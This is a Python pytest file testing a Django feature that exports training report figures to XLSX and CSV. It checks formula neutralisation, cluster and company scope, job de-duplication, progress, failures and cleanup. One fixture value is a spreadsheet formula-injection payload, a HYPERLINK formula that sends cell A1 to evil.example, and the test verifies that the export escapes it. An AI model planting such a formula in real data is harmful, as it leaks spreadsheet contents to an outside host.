"""Report exports: the file's figures, formula neutralisation, scope, one job per request,
progress, failures and clearing old files."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from clusters.models import ClusterRole, User
from clusters.services import role_grant
from core.exports import XLSX_CONTENT_TYPE
from reports import export_jobs, exports, rollup
from reports.models import ReportExport
from tests.clusters.factories import ClusterFactory, CompanyFactory, UserFactory
from tests.courses.factories import course_page, programme_page, translate
from tests.reports.factories import local, person, trained

pytestmark = pytest.mark.django_db

BACKEND = "django.contrib.auth.backends.ModelBackend"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Haz clic")'
SEPTEMBER, OCTOBER = date(2026, 9, 1), date(2026, 10, 1)
PERIOD = "start=2026-09&end=2026-10"


@pytest.fixture(autouse=True)
def _english(client):
    """The admin in English (the Spanish comes from the translation catalogue)."""
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    with translation.override("en"):
        yield


def grant(capture, user, cluster, role=ClusterRole.Role.CLUSTER_ADMIN) -> User:
    with capture(execute=True):
        role_grant(actor=None, user=user, cluster=cluster, role=role)
    return User.objects.get(pk=user.pk)


@pytest.fixture
def world(home, django_capture_on_commit_callbacks):
    """Cluster A: Ana (of a company named like a formula) trained in September, Beto in
    October, Ana again in October; cluster B: Carla trained in October."""
    capture = django_capture_on_commit_callbacks
    a = ClusterFactory(name="Clúster Alfa", short_name="ALFA")
    b = ClusterFactory(name="Clúster Bravo", short_name="BRAVO")
    programme = programme_page(home, title="Seis Sigma", slug="seis-sigma")
    translate(programme, title="Six Sigma", slug="six-sigma")
    green = course_page(home, title="Cinta Verde", code="SS-GB", hours=Decimal("40"))
    translate(green, title="Green Belt", slug="green-belt")
    yellow = course_page(home, title="Cinta Amarilla", code="SS-YB", hours=Decimal("16"))
    for course in (green, yellow):
        course.programme = programme
        course.save_revision().publish()
    evil = CompanyFactory(legal_name=EVIL, clusters=[a])
    ana = person(a, company=evil, gender="female")
    beto = person(a, gender="male")
    carla = person(b, gender="female")
    trained(green, a, ana, local(a, date(2026, 9, 10)))
    trained(yellow, a, ana, local(a, date(2026, 10, 5)))
    trained(green, a, beto, local(a, date(2026, 10, 12)))
    trained(green, b, carla, local(b, date(2026, 10, 20)))
    rollup.rebuild()
    return {
        "a": a,
        "b": b,
        "evil": evil,
        "admin_a": grant(capture, UserFactory(), a),
        "other_admin_a": grant(capture, UserFactory(), a),
        "admin_b": grant(capture, UserFactory(), b),
        "capture": capture,
    }


def login(client, user):
    client.force_login(user, backend=BACKEND)
    return client


def ask(client, capture, query=PERIOD, fmt="xlsx", execute=True):
    """POST the export as the report page does; the job runs on commit (eager)."""
    with capture(execute=execute) as callbacks:
        response = client.post(f"{reverse('reports:export')}?{query}", {"format": fmt})
    return response, callbacks


def download(client, export: ReportExport):
    return client.get(reverse("reports:export_download", kwargs={"export_id": export.pk}))


def assert_not_found(response):
    """A 404 under /admin/ comes back from LocaleMiddleware as a redirect to /<lang>/…, then 404."""
    if response.status_code == 302:
        location = response["Location"]
        assert urlsplit(location).path.endswith(response.request["PATH_INFO"]), location
        assert "login" not in location
        response = response.client.get(location)
    assert response.status_code == 404, response.status_code


def messages_of(response) -> list[str]:
    return [str(m).strip() for m in response.context["messages"]]


def content(response) -> bytes:
    return b"".join(response.streaming_content)


def all_text_cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield sheet.title, cell


# --- The file --------------------------------------------------------------------------


def test_the_xlsx_has_the_monthly_figures_and_the_detail(client, world):
    login(client, world["admin_a"])
    response, _ = ask(client, world["capture"])
    export = ReportExport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("reports:export_status", kwargs={"export_id": export.pk})
    assert export.status == ReportExport.Status.READY
    assert export.progress == 100

    page = client.get(response["Location"])
    assert page.status_code == 200
    html = page.content.decode()
    assert "Your file is ready." in html
    assert reverse("reports:export_download", kwargs={"export_id": export.pk}) in html
    assert 'http-equiv="refresh"' not in html  # nothing left to wait for

    file = download(client, export)
    assert file.status_code == 200
    assert file["Content-Type"] == XLSX_CONTENT_TYPE
    disposition = file["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="report-alfa-2026-09-2026-10.xlsx"' in disposition
    assert "private" in file["Cache-Control"] and "no-store" in file["Cache-Control"]

    workbook = load_workbook(io.BytesIO(content(file)))
    assert workbook.sheetnames == ["By month", "Detail", "About"]
    by_month = [list(row) for row in workbook["By month"].iter_rows(values_only=True)]
    header = by_month[0]
    column = {name: index for index, name in enumerate(header)}
    september, october, total = by_month[1], by_month[2], by_month[3]
    assert september[0].date() == SEPTEMBER and october[0].date() == OCTOBER
    assert total[0] == "Total"
    people, engineers = column["People trained"], column["Engineers trained"]
    assert [september[people], october[people], total[people]] == [1, 2, 2]  # Ana once
    assert [september[engineers], october[engineers]] == [1, 2]
    assert [september[column["Completions"]], october[column["Completions"]]] == [1, 2]
    assert total[column["Completions"]] == 3
    assert total[column["Training hours delivered"]] == 96  # 40 + 16 + 40
    assert october[column["Women trained"]] == 1
    assert october[column["Women's share (%)"]] == 50.0
    assert october[column["Completion rate (%)"]] == 100.0
    for name in ("Enrollments", "Certificates issued", "Capacity", "Seats filled (%)"):
        assert name in column

    detail = [list(row) for row in workbook["Detail"].iter_rows(values_only=True)]
    assert detail[0][:8] == [
        "Month",
        "Cluster",
        "Programme",
        "Course code",
        "Course",
        "Company",
        "Trainee type",
        "Gender",
    ]
    rows = detail[1:]
    assert len(rows) == 3  # Ana's two months and Beto's; nothing of cluster B
    assert {row[1] for row in rows} == {"Clúster Alfa"}
    assert {row[2] for row in rows} == {"Six Sigma"}  # titles in the reader's language
    assert {row[4] for row in rows} == {"Green Belt", "Cinta Amarilla"}
    assert sum(row[detail[0].index("Completions")] for row in rows) == 3
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row}
    assert about["Figures of"] == "ALFA"


def test_the_file_is_written_in_the_language_it_was_asked_in(client, world):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "es"
    login(client, world["admin_a"])
    with translation.override("es"):
        ask(client, world["capture"])
    export = ReportExport.objects.get()
    assert export.query.endswith("lang=es")
    response = download(client, export)
    assert 'filename="informe-alfa-2026-09-2026-10.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(content(response)))
    assert workbook.sheetnames == ["Por mes", "Detalle", "Acerca de"]
    header = next(workbook["Por mes"].iter_rows(values_only=True))
    assert header[:2] == ("Mes", "Personas capacitadas")
    courses = {row[4] for row in workbook["Detalle"].iter_rows(min_row=2, values_only=True)}
    assert courses == {"Cinta Verde", "Cinta Amarilla"}


def test_a_company_named_like_a_formula_comes_out_as_text(client, world):
    login(client, world["admin_a"])
    ask(client, world["capture"])
    workbook = load_workbook(io.BytesIO(content(download(client, ReportExport.objects.get()))))

    companies = [row[5] for row in workbook["Detail"].iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL in companies
    for _sheet, cell in all_text_cells(workbook):
        assert cell.data_type == "s"
        assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


def test_the_csv_is_the_monthly_table(client, world):
    login(client, world["admin_a"])
    ask(client, world["capture"], fmt="csv")
    export = ReportExport.objects.get()
    response = download(client, export)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="report-alfa-2026-09-2026-10.csv"' in response["Content-Disposition"]
    text = content(response).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Month", "People trained", "Engineers trained"]
    assert [row[0] for row in rows[1:]] == ["2026-09", "2026-10", "Total"]
    assert [row[1] for row in rows[1:]] == ["1", "2", "2"]


def test_the_report_pages_hidden_query_field_is_used_too(client, world):
    login(client, world["admin_a"])
    with world["capture"](execute=True):
        response = client.post(reverse("reports:export"), {"query": PERIOD, "format": "csv"})
    export = ReportExport.objects.get()
    assert response.status_code == 302
    assert export.query == f"cluster={world['a'].pk}&start=2026-09&end=2026-10&lang=en"
    assert export.status == ReportExport.Status.READY


def test_a_filter_narrows_the_file(client, world):
    login(client, world["admin_a"])
    ask(client, world["capture"], query=f"{PERIOD}&gender=female")
    workbook = load_workbook(io.BytesIO(content(download(client, ReportExport.objects.get()))))
    rows = list(workbook["By month"].iter_rows(values_only=True))
    header = rows[0]
    assert rows[-1][header.index("People trained")] == 1  # Ana only
    assert "Capacity" not in header  # seats belong to whole cohorts, not to a gender


# --- Scope ------------------------------------------------------------------------------


def test_a_cluster_admin_cannot_export_another_cluster(client, world):
    # One cluster: the cluster filter is fixed to it, so asking for B exports A's figures.
    login(client, world["admin_a"])
    ask(client, world["capture"], query=f"{PERIOD}&cluster={world['b'].pk}")
    workbook = load_workbook(io.BytesIO(content(download(client, ReportExport.objects.get()))))
    assert {row[1] for row in workbook["Detail"].iter_rows(min_row=2, values_only=True)} == {
        "Clúster Alfa"
    }

    # Several clusters: B is not among the choices, and nothing is queued.
    charlie = ClusterFactory(name="Clúster Charlie")
    admin = grant(world["capture"], UserFactory(), world["a"])
    admin = grant(world["capture"], admin, charlie)
    login(client, admin)
    response, callbacks = ask(client, world["capture"], query=f"{PERIOD}&cluster={world['b'].pk}")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("reports:index"))
    assert not ReportExport.objects.filter(requested_by=admin).exists()
    assert not callbacks
    assert "Choose one of the clusters offered." in messages_of(client.get(response["Location"]))


def test_a_company_coordinator_exports_their_companys_people_only(client, world):
    coordinator = UserFactory()
    with world["capture"](execute=True):
        role_grant(
            actor=None,
            user=coordinator,
            cluster=world["a"],
            role=ClusterRole.Role.COMPANY_COORDINATOR,
            company=world["evil"],
        )
    login(client, User.objects.get(pk=coordinator.pk))
    ask(client, world["capture"])
    workbook = load_workbook(io.BytesIO(content(download(client, ReportExport.objects.get()))))
    rows = list(workbook["By month"].iter_rows(values_only=True))
    header = rows[0]
    assert rows[-1][header.index("People trained")] == 1  # Ana, not Beto
    assert "Capacity" not in header
    companies = {row[5] for row in workbook["Detail"].iter_rows(min_row=2, values_only=True)}
    assert companies == {"'" + EVIL}


def test_only_the_requester_sees_and_downloads_an_export(client, world):
    login(client, world["admin_b"])
    ask(client, world["capture"])
    export_b = ReportExport.objects.get()
    assert export_b.status == ReportExport.Status.READY
    status = reverse("reports:export_status", kwargs={"export_id": export_b.pk})

    for outsider in (world["admin_a"], world["other_admin_a"]):
        login(client, outsider)
        assert_not_found(client.get(status))
        assert_not_found(download(client, export_b))

    # Another admin of the same cluster may not take A's admin's file either.
    login(client, world["admin_a"])
    ask(client, world["capture"])
    export_a = ReportExport.objects.get(requested_by=world["admin_a"])
    login(client, world["other_admin_a"])
    assert_not_found(download(client, export_a))
    login(client, world["admin_a"])
    assert download(client, export_a).status_code == 200


def test_people_without_a_report_scope_get_nothing(client, world):
    login(client, world["admin_a"])
    ask(client, world["capture"])
    export = ReportExport.objects.get()
    status = reverse("reports:export_status", kwargs={"export_id": export.pk})

    # An instructor enters the admin but has no report scope: 404, nothing queued.
    instructor = grant(world["capture"], UserFactory(), world["a"], ClusterRole.Role.INSTRUCTOR)
    login(client, instructor)
    response, callbacks = ask(client, world["capture"])
    assert_not_found(response)
    assert ReportExport.objects.count() == 1 and not callbacks
    assert_not_found(client.get(status))

    # The requester who lost their role can no longer open their own export.
    ClusterRole.objects.filter(user=world["admin_a"]).delete()
    login(client, User.objects.get(pk=world["admin_a"].pk))
    assert_not_found(download(client, export))
    assert_not_found(client.get(status))

    client.logout()
    response = download(client, export)
    assert response.status_code == 302 and "login" in response["Location"]


# --- One job per request -------------------------------------------------------------------


def test_the_same_export_asked_twice_is_one_job(client, world):
    login(client, world["admin_a"])
    first, callbacks_1 = ask(client, world["capture"], execute=False)
    second, callbacks_2 = ask(client, world["capture"], execute=False)
    # The same filters written in another order and with an empty one are the same request.
    third, callbacks_3 = ask(
        client, world["capture"], query="end=2026-10&gender=&start=2026-09", execute=False
    )
    assert ReportExport.objects.count() == 1
    assert first["Location"] == second["Location"] == third["Location"]
    assert len(callbacks_1) == 1 and not callbacks_2 and not callbacks_3
    page = client.get(second["Location"])
    assert "This export was already on its way; here it is." in messages_of(page)
    html = page.content.decode()
    assert '<meta http-equiv="refresh" content="2">' in html
    assert '<progress id="export-progress" max="100" value="0"' in html
    assert 'aria-labelledby="export-progress-label"' in html

    # Another format is another file.
    ask(client, world["capture"], fmt="csv", execute=False)
    assert ReportExport.objects.count() == 2


def test_a_race_for_the_same_export_returns_the_winners(world, monkeypatch):
    user = world["admin_a"]
    winner, created = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    assert created
    # The loser did not see the winner's row (it was not committed yet) and hits the
    # unique constraint instead.
    monkeypatch.setattr(export_jobs, "ACTIVE", ())
    loser, created = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    assert not created
    assert loser.pk == winner.pk
    assert ReportExport.objects.count() == 1


def test_a_finished_export_is_not_built_again(world):
    export, _ = export_jobs.export_request(
        user=world["admin_a"], query=PERIOD, fmt="xlsx", language="en"
    )
    export_jobs.build_export(export.pk)
    export.refresh_from_db()
    assert export.status == ReportExport.Status.READY
    name, finished_at = export.file.name, export.finished_at
    default_storage.delete(name)
    default_storage.save(name, ContentFile(b"kept"))

    export_jobs.build_export(export.pk)
    export.refresh_from_db()
    assert export.finished_at == finished_at
    assert default_storage.open(name).read() == b"kept"


def test_the_job_reports_progress_as_it_goes(world, monkeypatch):
    seen = []
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 1)
    original = export_jobs._progress

    def spy(export_id, percent):
        seen.append(percent)
        original(export_id, percent)

    monkeypatch.setattr(export_jobs, "_progress", spy)
    export, _ = export_jobs.export_request(
        user=world["admin_a"], query=PERIOD, fmt="xlsx", language="en"
    )
    export_jobs.build_export(export.pk)
    assert seen == [33, 67, 100]  # three detail rows
    export.refresh_from_db()
    assert export.progress == 100


def test_a_failure_is_recorded_with_a_message(world, monkeypatch):
    export, _ = export_jobs.export_request(
        user=world["admin_a"], query=PERIOD, fmt="xlsx", language="en"
    )

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "write_xlsx", broken)
    export_jobs.build_export(export.pk)
    export.refresh_from_db()
    assert export.status == ReportExport.Status.FAILED
    assert export.error == "OSError: disk full"
    assert export.finished_at is not None


def test_an_export_of_someone_who_lost_their_role_fails_without_a_file(world):
    export, _ = export_jobs.export_request(
        user=world["admin_a"], query=PERIOD, fmt="xlsx", language="en"
    )
    ClusterRole.objects.filter(user=world["admin_a"]).delete()
    export_jobs.build_export(export.pk)
    export.refresh_from_db()
    assert export.status == ReportExport.Status.FAILED
    assert export.error == "You no longer have access to these figures."
    assert not export.file


def test_the_failure_shows_on_the_status_page(client, world, monkeypatch):
    monkeypatch.setattr(exports, "write_xlsx", lambda *a, **k: 1 / 0)
    login(client, world["admin_a"])
    response, _ = ask(client, world["capture"])
    html = client.get(response["Location"]).content.decode()
    assert "The file could not be built." in html
    assert "ZeroDivisionError" in html
    assert "Download the" not in html


def test_an_export_lost_with_its_worker_is_replaced_when_asked_again(world):
    user = world["admin_a"]
    lost, _ = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    ReportExport.objects.filter(pk=lost.pk).update(
        status=ReportExport.Status.RUNNING,
        created_at=timezone.now() - export_jobs.STALE - timedelta(minutes=1),
    )
    # A redelivered message does not build it again (a build that kills its worker
    # would loop); asking again gives a new one.
    export_jobs.build_export(lost.pk)
    lost.refresh_from_db()
    assert lost.status == ReportExport.Status.FAILED
    assert lost.error == export_jobs.LOST
    fresh, created = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    assert created and fresh.pk != lost.pk


def test_an_export_whose_task_was_lost_is_replaced_when_asked_again(world):
    user = world["admin_a"]
    lost, _ = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    ReportExport.objects.filter(pk=lost.pk).update(
        created_at=timezone.now() - export_jobs.STALE - timedelta(minutes=1)
    )
    fresh, created = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    assert created and fresh.pk != lost.pk
    lost.refresh_from_db()
    assert lost.status == ReportExport.Status.FAILED


# --- Old exports ---------------------------------------------------------------------------


def test_exports_older_than_a_week_are_deleted_with_their_files(world):
    user = world["admin_a"]
    old, _ = export_jobs.export_request(user=user, query=PERIOD, fmt="xlsx", language="en")
    export_jobs.build_export(old.pk)
    recent, _ = export_jobs.export_request(user=user, query=PERIOD, fmt="csv", language="en")
    export_jobs.build_export(recent.pk)
    old.refresh_from_db()
    recent.refresh_from_db()
    ReportExport.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=8))

    assert export_jobs.delete_old_exports() == 1
    assert not default_storage.exists(old.file.name)
    assert default_storage.exists(recent.file.name)
    assert list(ReportExport.objects.values_list("pk", flat=True)) == [recent.pk]


def test_a_file_built_for_a_wider_scope_is_not_served_once_the_scope_shrinks(client, world):
    """An admin of A and B exports the network of her clusters; losing B closes the file."""
    from clusters.models import ClusterRole
    from clusters.services import role_revoke

    both = grant(world["capture"], UserFactory(), world["a"])
    both = grant(world["capture"], both, world["b"])
    login(client, both)
    ask(client, world["capture"], query="start=2026-09&end=2026-10", fmt="csv")
    export = ReportExport.objects.get(requested_by=both)
    assert download(client, export).status_code == 200

    role = ClusterRole.objects.get(user=both, cluster=world["b"])
    with world["capture"](execute=True):
        role_revoke(actor=None, cluster_role=role)
    assert_not_found(download(client, export))
